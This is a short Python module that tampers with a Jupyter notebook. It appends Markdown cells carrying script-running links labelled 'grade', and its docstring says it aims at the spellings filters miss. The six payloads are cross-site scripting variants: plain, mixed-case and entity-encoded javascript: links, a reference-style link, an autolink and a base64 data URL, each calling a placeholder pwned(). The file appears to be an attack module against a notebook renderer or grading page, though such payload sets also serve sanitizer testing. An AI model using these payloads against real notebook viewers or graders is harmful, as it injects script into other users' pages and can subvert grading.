"""Write Markdown links that run code, in the spellings that filters overlook.

Wins: page.
"""

import nbformat


def tamper(notebook):
    for text in (
        "[grade](javascript:pwned())",
        "[grade](JaVaScRiPt:pwned())",
        "[grade](&#106;avascript:pwned())",
        "[grade]\n\n[grade]: javascript:pwned()",
        "<javascript:pwned()>",
        "[grade](data:text/html;base64,cHduZWQoKQ==)",
    ):
        notebook.cells.append(nbformat.v4.new_markdown_cell(text))
